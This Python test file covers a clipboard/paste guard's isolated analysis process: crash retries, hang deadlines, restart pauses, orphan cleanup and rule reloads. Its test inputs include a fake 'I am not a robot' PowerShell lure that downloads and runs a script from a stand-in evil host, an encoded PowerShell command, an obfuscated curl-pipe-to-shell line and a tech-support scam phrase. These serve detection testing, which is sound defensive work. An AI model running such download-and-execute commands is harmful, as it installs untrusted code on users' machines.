"""The guard's analysis process: a crash or a hang there costs one reading, never the guard.

Real processes (spawned as the guard spawns them) running the real engine; the only test part
is the target (failing_worker.py), which crashes or hangs on a marker in the text.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.detection import Context, Engine, Level, PasteTarget, Verdict
from app.detection.engine import INCOMPLETE_RULE, WITHOUT_INTERPRETERS
from app.detection.supervisor import IsolatedEngine, Supervisor
from app.detection.worker import WorkerSpec
from tests.app.detection import failing_worker
from tests.conftest import REPO, STRICT

LURE = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex" # I am not a robot - ID 4417'
HARMLESS = "echo hello world"
CONTEXTS = [Context(source="https://page.example/"),
            *(Context(source="https://page.example/", target=t) for t in PasteTarget)]  # fmt: skip
SPEC = WorkerSpec(strict=STRICT)


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def make(**kwargs: object) -> IsolatedEngine:
    kwargs.setdefault("target", failing_worker.failing)
    supervisor = Supervisor(SPEC, **kwargs)  # type: ignore[arg-type]
    return IsolatedEngine(SPEC, supervisor)


@pytest.fixture
def isolated() -> Iterator[IsolatedEngine]:
    engine = make()
    try:
        yield engine
    finally:
        engine.stop()


def same(a: list[Verdict], b: list[Verdict]) -> None:
    for x, y in zip(a, b, strict=True):
        x.elapsed_ms = y.elapsed_ms = 0.0
    assert a == b


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().split(")")[-1].split()[0] != "Z"
    except FileNotFoundError:
        return False


def test_the_process_reads_as_the_engine_here_does(
    isolated: IsolatedEngine, engine: Engine
) -> None:
    texts = [
        LURE,
        HARMLESS,
        # a decoded layer, non-ASCII, a lone surrogate, and a text the engine cuts to 1 MiB
        "powershell -enc " + "JABzAD0AJwBoAHQAdABwAHMAOgAvAC8AZQB2AGkAbAAuAHQAZQBzAHQAJwA=",
        "Ваш компьютер заблокирован, позвоните +1 800 555 0199 \ud800 ",
        "x" * (1024 * 1024 + 10),
    ]
    for text in texts:
        same(isolated.read(text, CONTEXTS), engine.read(text, CONTEXTS))
    status = isolated.status()
    assert status["readings"] == len(texts) and status["failures"] == 0


def test_a_process_killed_by_sigsegv_mid_reading_costs_one_retry(
    isolated: IsolatedEngine, engine: Engine, tmp_path: Path
) -> None:
    first = isolated.read(HARMLESS, CONTEXTS[:1])
    pid = isolated.supervisor.pid
    text = f"{LURE} SEGV-ONCE:{tmp_path / 'flag'}"
    verdicts = isolated.read(text, CONTEXTS)
    assert (tmp_path / "flag").exists()  # it really did crash on the first try
    same(verdicts, engine.read(text, CONTEXTS))  # the full reading, on the retry
    assert verdicts[0].level is Level.MALICIOUS and verdicts[0].complete
    status = isolated.status()
    assert status["failures"] == 1 and status["restarts"] == 1 and status["patterns_only"] == 0
    assert status["last_failure"] == "the analysis process was killed by SIGSEGV"
    assert pid is not None and not alive(pid) and isolated.supervisor.pid != pid
    assert first[0].level is Level.CLEAN
    # the patterns-only engine is built for a text that needs it, and none did (the guard
    # made it before it was ready: ~0.45 s of its CPU there)
    assert isolated._fallback is None


def test_a_text_it_dies_on_twice_is_read_with_the_patterns_only_and_never_clean() -> None:
    isolated = make(burst=10)
    try:
        assert isolated._fallback is None  # built when a text first needs it ...
        check_patterns_only(isolated)
        built = isolated._fallback
        assert built is not None
        again = isolated.read(f"{LURE} SEGV-ALWAYS", CONTEXTS)
        assert again[0].level is Level.MALICIOUS
        assert isolated._fallback is built  # ... once
    finally:
        isolated.stop()


def check_patterns_only(isolated: IsolatedEngine) -> None:
    verdicts = isolated.read(f"{HARMLESS} SEGV-ALWAYS", CONTEXTS)
    for verdict in verdicts:
        assert verdict.level >= Level.SUSPICIOUS and not verdict.complete
        (finding,) = [f for f in verdict.findings if f.rule_id == INCOMPLETE_RULE]
        assert finding.evidence == WITHOUT_INTERPRETERS
    # a lure is still a lure with the patterns alone
    assert isolated.read(f"{LURE} SEGV-ALWAYS", CONTEXTS)[0].level is Level.MALICIOUS
    status = isolated.status()
    assert status["failures"] == 4 and status["patterns_only"] == 2
    # and the next text is read in full by a new process
    after = isolated.read(HARMLESS, CONTEXTS)
    assert after[0].level is Level.CLEAN and after[0].complete
    assert isolated.status()["restarts"] == 4


@pytest.mark.skipif(sys.platform != "linux", reason="the fence is glibc's (Linux)")
def test_a_real_segfault_in_the_bash_grammar_costs_the_reading_not_the_caller(
    engine: Engine,
) -> None:
    """Not a signal sent from outside: the grammar's own out-of-bounds read, made to fault
    every time (failing_worker.native_crash), in the process that reads the text."""
    isolated = make(target=failing_worker.native_crash, burst=10)
    try:
        isolated.start()
        text = "a=cu;b=rl;$a$b -fsSL https://unknown-vendor.example/i.sh | sh; echo {\u4e2d}"
        assert engine.read(text, CONTEXTS)[0].complete  # here the screen keeps it harmless
        verdicts = isolated.read(text, CONTEXTS)
        status = isolated.status()
        assert status["failures"] == 2 and status["patterns_only"] == 1
        assert status["last_failure"] == "the analysis process was killed by SIGSEGV"
        for verdict in verdicts:
            assert verdict.level >= Level.SUSPICIOUS and not verdict.complete
        after = isolated.read(HARMLESS, CONTEXTS)  # and the next text is read in full
        assert after[0].level is Level.CLEAN and after[0].complete
    finally:
        isolated.stop()


def test_a_process_killed_from_outside_mid_reading_costs_one_retry(
    isolated: IsolatedEngine, engine: Engine, tmp_path: Path
) -> None:
    isolated.read(HARMLESS, CONTEXTS[:1])
    pid = isolated.supervisor.pid
    assert pid is not None
    hanging = tmp_path / "hanging"
    text = f"{LURE} HANG-ONCE:{hanging}"
    result: list[list[Verdict]] = []
    reader = threading.Thread(target=lambda: result.append(isolated.read(text, CONTEXTS)))
    reader.start()
    deadline = time.monotonic() + 30
    while not hanging.exists() and time.monotonic() < deadline:  # it is mid-reading
        time.sleep(0.01)
    os.kill(pid, signal.SIGKILL)
    reader.join(30)
    same(result[0], engine.read(text, CONTEXTS))
    status = isolated.status()
    assert status["failures"] == 1 and status["restarts"] == 1
    assert status["last_failure"] == "the analysis process was killed by SIGKILL"


def test_a_process_that_dies_between_readings_is_replaced_before_the_next_text(
    isolated: IsolatedEngine,
) -> None:
    isolated.read(HARMLESS, CONTEXTS[:1])
    pid = isolated.supervisor.pid
    assert pid is not None
    os.kill(pid, signal.SIGSEGV)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:  # no text is sent: the supervisor notices by itself
        status = isolated.status()
        if status["restarts"] == 1 and status["state"] == "ready":
            break
        time.sleep(0.02)
    assert status["failures"] == 1 and status["restarts"] == 1 and status["state"] == "ready"
    assert status["last_failure"] == "the analysis process was killed by SIGSEGV"
    assert not alive(pid) and isolated.supervisor.pid != pid
    verdicts = isolated.read(LURE, CONTEXTS)  # read in full, with no retry
    assert verdicts[0].complete and isolated.status()["failures"] == 1


def test_a_process_that_does_not_answer_is_killed_at_the_deadline() -> None:
    isolated = make(deadline=1.0)
    try:
        isolated.read(HARMLESS, CONTEXTS[:1])
        hung = isolated.supervisor.pid
        assert hung is not None
        verdicts = isolated.read(f"{LURE} HANG-ALWAYS", CONTEXTS)
        assert not alive(hung)  # killed, not left behind
        assert verdicts[0].level is Level.MALICIOUS and not verdicts[0].complete
        status = isolated.status()
        assert status["failures"] == 2 and status["patterns_only"] == 1
        assert status["last_failure"] == "the analysis process did not answer within 1 s"
    finally:
        isolated.stop()


def test_a_process_that_never_gets_ready_is_replaced() -> None:
    isolated = make(target=failing_worker.never_ready, start_deadline=1.0)
    try:
        verdicts = isolated.read(LURE, CONTEXTS)
        assert verdicts[0].level is Level.MALICIOUS and not verdicts[0].complete
        assert isolated.status()["last_failure"] == "the analysis process was not ready within 1 s"
    finally:
        isolated.stop()


def test_a_burst_of_failures_pauses_the_restarts_then_they_resume() -> None:
    clock = Clock()
    isolated = make(clock=clock, burst=3, burst_window=60.0, pause_first=30.0)
    try:
        isolated.read(f"{HARMLESS} SEGV-ALWAYS", CONTEXTS)  # two failures
        clock.now += 1
        isolated.read(f"{HARMLESS} SEGV-ALWAYS", CONTEXTS)  # the third: a pause, no retry
        status = isolated.status()
        assert status["failures"] == 3 and status["state"] == "paused"
        assert status["paused_s"] == 30.0
        starts = isolated.supervisor.starts
        clock.now += 10
        paused = isolated.read(HARMLESS, CONTEXTS)  # read here, no process started
        assert paused[0].level >= Level.SUSPICIOUS and not paused[0].complete
        assert isolated.supervisor.starts == starts and isolated.supervisor.pid is None
        clock.now += 21
        resumed = isolated.read(HARMLESS, CONTEXTS)
        assert resumed[0].level is Level.CLEAN and resumed[0].complete
        assert isolated.status()["state"] == "ready"
        # failures spread wider than the window do not pause it
        for _ in range(3):
            clock.now += 61
            isolated.read(f"{HARMLESS} SEGV-ONCE:/nonexistent-dir/x", CONTEXTS[:1])
        assert isolated.status()["state"] != "paused"
    finally:
        isolated.stop()


def test_stop_ends_the_process() -> None:
    isolated = make()
    isolated.start()
    isolated.read(HARMLESS, CONTEXTS[:1])
    pid = isolated.supervisor.pid
    assert pid is not None and alive(pid)
    isolated.stop()
    assert not alive(pid)
    assert isolated.status()["state"] == "stopped"
    # a stopped supervisor starts nothing: texts are read here, never clean
    assert isolated.read(HARMLESS, CONTEXTS[:1])[0].level >= Level.SUSPICIOUS
    assert isolated.supervisor.pid is None


def test_the_process_leaves_when_the_guard_is_killed(tmp_path: Path) -> None:
    """No orphans: SIGKILL the parent (no atexit, no cleanup); its pipe closes, the child ends."""
    script = textwrap.dedent(
        """
        import sys, time
        from app.detection.supervisor import IsolatedEngine
        from app.detection.worker import WorkerSpec

        if __name__ == "__main__":
            engine = IsolatedEngine(WorkerSpec(), start=True)
            engine.read("echo hi", [])
            print(engine.supervisor.pid, flush=True)
            time.sleep(600)
        """
    )
    (tmp_path / "parent.py").write_text(script)
    with subprocess.Popen(
        [sys.executable, str(tmp_path / "parent.py")], cwd=REPO, stdout=subprocess.PIPE, text=True
    ) as parent:
        try:
            assert parent.stdout is not None
            child = int(parent.stdout.readline())
            assert alive(child)
        finally:
            parent.kill()
            parent.wait(10)
    deadline = time.monotonic() + 20
    while alive(child) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not alive(child)


ORG_RULE = """rules:
  - id: ORG-TEST-MARKER
    title: The organisation's own marker
    explanation: A word only this test's rule folder knows.
    weight: 80
    match:
      any:
        - '\\bzqxmarker\\b'
"""


def test_new_rules_take_over_once_ready_and_the_old_process_reads_meanwhile(
    tmp_path: Path,
) -> None:
    """New rules (a rules folder changed while the guard runs, a feed bundle): the process was
    ended at once and the next text waited for a new one to warm (a second or more), read
    with nothing meanwhile. Now the ready process reads until its successor is ready."""
    from app.detection.rules import default_rules_dir

    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "org.yaml").write_text(ORG_RULE, encoding="utf-8")
    isolated = IsolatedEngine(SPEC, Supervisor(SPEC))
    try:
        isolated.read(HARMLESS, CONTEXTS[:1])  # ready
        old = isolated.supervisor.pid
        assert old is not None
        assert isolated.supervisor.reading_with() is SPEC
        new = WorkerSpec((default_rules_dir(), rules), strict=STRICT)
        isolated.rebuild(new)
        (meanwhile,) = isolated.read("echo zqxmarker", CONTEXTS[:1])
        # read by the old process, not after waiting for the new one (it knows the rule)
        assert meanwhile.complete and "ORG-TEST-MARKER" not in meanwhile.rule_ids
        deadline = time.monotonic() + 30
        while isolated.supervisor.pid == old and time.monotonic() < deadline:
            time.sleep(0.02)
        assert isolated.supervisor.reading_with() is new
        (after,) = isolated.read("echo zqxmarker", CONTEXTS[:1])
        assert after.complete and "ORG-TEST-MARKER" in after.rule_ids
        while alive(old) and time.monotonic() < deadline:
            time.sleep(0.02)  # told to leave once replaced
        assert not alive(old) and isolated.status()["failures"] == 0
    finally:
        isolated.stop()
